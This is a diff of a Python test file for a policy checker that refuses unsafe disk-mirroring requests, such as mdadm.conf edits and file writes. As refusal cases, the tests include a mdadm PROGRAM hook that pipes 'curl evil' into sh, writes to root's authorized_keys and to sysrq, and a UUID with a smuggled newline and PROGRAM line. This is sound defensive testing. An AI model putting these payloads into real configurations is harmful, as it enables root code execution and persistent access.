@@ -179,7 +179,10 @@ def test_the_scope_is_the_sites_own_disks_and_every_name_of_its_mirrors() -> Non
             "step 'run' is not a step of the protocol",
         ),
         (run({"kind": "md_stop", "md": "/dev/md/m0", "argv": ["sh"]}), "argv is not a field of it"),
-        (run({"kind": "write_file", "path": "/root/.ssh/authorized_keys", "content": "k"}), "writes only"),
+        (
+            run({"kind": "write_file", "path": "/root/.ssh/authorized_keys", "content": "k"}),
+            "not a step of the protocol",
+        ),
         (
             run({"kind": "write_sysfs", "path": "/proc/sys/kernel/sysrq", "value": "1"}),
             "not a step of the protocol",
@@ -549,18 +552,37 @@ def test_a_request_is_refused_whole_before_any_of_it_runs() -> None:
     assert "/dev/sda" in refusal(run(good, {"kind": "zero_head", "device": "/dev/sda"}))
 
 
-def test_mdadm_conf_may_change_only_its_array_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_mdadm_conf_takes_only_the_sites_own_arrays_and_the_lines_it_has(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     conf = tmp_path / "mdadm.conf"
-    conf.write_text("HOMEHOST <system>\nMAILADDR root\n")
+    kept = "ARRAY /dev/md/old metadata=1.2 UUID=0a0a0a0a:0a0a0a0a:0a0a0a0a:0a0a0a0a name=old"
+    conf.write_text(f"HOMEHOST <system>\nMAILADDR root\n{kept}\n")
     monkeypatch.setattr(parsers, "MDADM_CONF", str(conf))
     monkeypatch.setattr(policy, "lines_of", LINES_OF)
-    ours = "HOMEHOST <system>\nMAILADDR root\n# BEGIN remirror\nARRAY /dev/md/m0 metadata=1.2 UUID=1:2:3:4\n# END\n"
-    check_request(run({"kind": "write_file", "path": str(conf), "content": ours}), SCOPE)
-    hook = ours + "PROGRAM /bin/sh -c 'curl evil | sh'\n"  # mdadm --monitor would run it as root
-    assert "only its ARRAY lines" in refusal(run({"kind": "write_file", "path": str(conf), "content": hook}))
-    assert "only its ARRAY lines" in refusal(
-        run({"kind": "write_file", "path": str(conf), "content": "ARRAY /dev/md/m0 UUID=1:2:3:4\n"})
-    )  # dropping the operator's own lines is a change too
+    uuid = CREATE["uuid"]
+    m0 = {"uuid": uuid, "device": "/dev/md/m0", "metadata": "1.2", "name": "m0"}
+    old = {
+        "uuid": "0a0a0a0a:0a0a0a0a:0a0a0a0a:0a0a0a0a",
+        "device": "/dev/md/old",
+        "metadata": "1.2",
+        "name": "old",
+    }
+    check_request(run({"kind": "mdadm_conf", "arrays": [m0, old, {"uuid": uuid}]}), SCOPE)  # old: as it is
+    # `<ignore>` of another array (the host's own system array's: boot would not assemble it).
+    assert "<ignore> of 11111111:11111111:11111111:11111111, not an array of" in refusal(
+        run({"kind": "mdadm_conf", "arrays": [{"uuid": "11111111:11111111:11111111:11111111"}]})
+    )
+    assert "is not mirror m0's array here" in refusal(
+        run({"kind": "mdadm_conf", "arrays": [{**m0, "uuid": "11111111:11111111:11111111:11111111"}]})
+    )
+    # No line of the sender's text: a PROGRAM hook (mdadm --monitor would run it as root) has no field.
+    assert "program is not a field of it" in refusal(
+        run({"kind": "mdadm_conf", "arrays": [{**m0, "program": "/bin/sh -c 'curl evil | sh'"}]})
+    )
+    assert "is not an md array UUID" in refusal(
+        run({"kind": "mdadm_conf", "arrays": [{"uuid": "1:2:3:4\nPROGRAM /bin/sh"}]})
+    )
 
 
 def test_a_site_without_profiles_still_gets_the_closed_forms_with_any_block_device() -> None:
